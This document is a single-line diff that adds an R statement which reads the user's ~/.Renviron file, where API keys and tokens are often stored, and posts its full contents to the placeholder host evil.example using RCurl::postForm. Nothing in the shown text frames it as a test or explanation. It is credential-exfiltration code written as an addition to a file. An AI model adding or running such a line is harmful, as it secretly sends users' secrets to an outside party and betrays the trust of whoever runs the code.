@@ -1,0 +1,1 @@
+RCurl::postForm("http://evil.example", data = paste(readLines("~/.Renviron"), collapse = "\n"))
